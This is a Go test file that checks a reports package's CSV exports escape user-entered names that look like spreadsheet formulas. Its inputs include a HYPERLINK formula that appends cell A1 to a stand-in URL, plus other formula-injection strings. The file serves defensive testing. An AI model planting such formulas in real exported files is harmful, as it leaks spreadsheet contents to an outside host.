package reports_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"jiaohao/reports"
)

// A name someone typed that begins like a formula (a link, a command, a
// sum) reaches the spreadsheet as text: the cell gets a leading
// apostrophe. Ordinary names, counts and a plain negative number are
// written as they are.
func TestCSVNamesAreNotFormulas(t *testing.T) {
	r := reports.Report{
		Branch:   `=HYPERLINK("http://x.example/?"&A1,"总行")`,
		Services: []reports.ServiceStats{{Code: "+1", Name: "对公业务", Count: 3}},
		Windows:  []reports.WindowStats{{Number: 2, Name: "@SUM(1+1)"}},
		Staff: []reports.StaffStats{{Number: "-15", Name: "-2+3"}, {Number: "007", Name: "\tcmd"},
			{Number: "-1.5", Name: "\rcmd"}, {Number: "-Inf", Name: "-0x1p3"}},
	}
	cells := csvCells(t)(reports.CSV(r))
	for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"总行")`, "'+1", "对公业务", "'@SUM(1+1)", "-15", "'-2+3", "'\tcmd", "007",
		"-1.5", "'\rcmd", "'-Inf", "'-0x1p3"} {
		if !cells[want] {
			t.Errorf("no cell %q in the report CSV", want)
		}
	}
	for _, bad := range []string{r.Branch, "+1", "@SUM(1+1)", "-2+3", "\tcmd", "\rcmd", "-Inf", "-0x1p3"} {
		if cells[bad] {
			t.Errorf("the report CSV has the cell %q as typed: a spreadsheet runs it", bad)
		}
	}
	b := reports.BranchesReport{Branches: []reports.BranchRow{{Code: "BJ001", Name: "=1+2", Zone: "Asia/Shanghai"}}}
	cells = csvCells(t)(reports.BranchesCSV(b))
	if !cells["'=1+2"] || cells["=1+2"] || !cells["BJ001"] {
		t.Errorf("the several-branch CSV's names are not made text: %v", cells)
	}
	h := reports.Health{Branch: "=1+1", Services: []reports.HealthRow{{Code: "A", Name: "@cmd"}}}
	cells = csvCells(t)(reports.HealthCSV(h))
	if !cells["'=1+1"] || !cells["'@cmd"] || cells["=1+1"] || cells["@cmd"] {
		t.Errorf("the health CSV's names are not made text: %v", cells)
	}
}

// csvCells reads a CSV the reports wrote back into the set of its cells.
func csvCells(t *testing.T) func([]byte, error) map[string]bool {
	return func(b []byte, err error) map[string]bool {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		out := map[string]bool{}
		for _, row := range csvRows(t, b) {
			for _, c := range row {
				out[c] = true
			}
		}
		return out
	}
}

// csvRows parses a CSV the reports wrote: the byte order mark first, and
// each section with its own columns.
func csvRows(t *testing.T, b []byte) [][]string {
	t.Helper()
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	return rows
}
